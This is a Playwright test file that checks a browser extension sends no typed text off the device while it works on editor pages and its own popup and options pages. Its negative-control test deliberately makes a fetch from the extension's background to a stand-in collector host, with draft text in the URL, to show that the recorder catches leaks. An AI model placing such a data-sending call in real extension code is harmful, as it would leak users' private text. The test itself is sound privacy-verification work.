import { expect, openEditor, PAGES, type PageKey, test } from './harness';

/**
 * The product never sends text anywhere: while the extension works on every page copy (typing in each
 * recognised box, opening the popup and options), no request may leave the browser.
 */
test('no request leaves the browser while the extension works on every page copy', async ({
  context,
  net,
  extensionId,
}) => {
  for (const key of Object.keys(PAGES) as PageKey[]) {
    const { page } = await openEditor(context, key);
    await page.keyboard.type('Уважаемые жители! В целях безопасности данный проезд закрыт. Обьявление для вас.');
    // the check round trip (content script → background → back) has happened
    await expect(page.getByTestId('gph-badge').first()).toBeVisible();
    await page.close();
  }
  for (const p of ['popup.html', 'popup.html#status', 'popup.html#templates', 'options.html', 'templates.html']) {
    const page = await context.newPage();
    await page.goto(`chrome-extension://${extensionId}/${p}`);
    await page.waitForLoadState('networkidle');
    await page.close();
  }
  expect(net.external, `requests that left the browser:\n${net.external.join('\n')}`).toEqual([]);
});

test('the privacy check catches a request made by the extension (negative control)', async ({ context, net }) => {
  const sw = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
  // Simulate a leak from the extension's own background: the recorder must see it.
  await sw.evaluate(() => fetch('https://collector.example.org/draft?text=hello').catch(() => null));
  const page = await context.newPage();
  await page.goto(PAGES.vkNewComposer.url);
  await page.evaluate(() => fetch('https://vk.com/al_wall.php', { method: 'POST', body: 'x' }).catch(() => null));
  await expect.poll(() => net.external.length).toBeGreaterThanOrEqual(2);
  expect(net.external.some((r) => r.includes('collector.example.org'))).toBe(true);
  expect(net.external.some((r) => r.includes('al_wall.php'))).toBe(true);
});
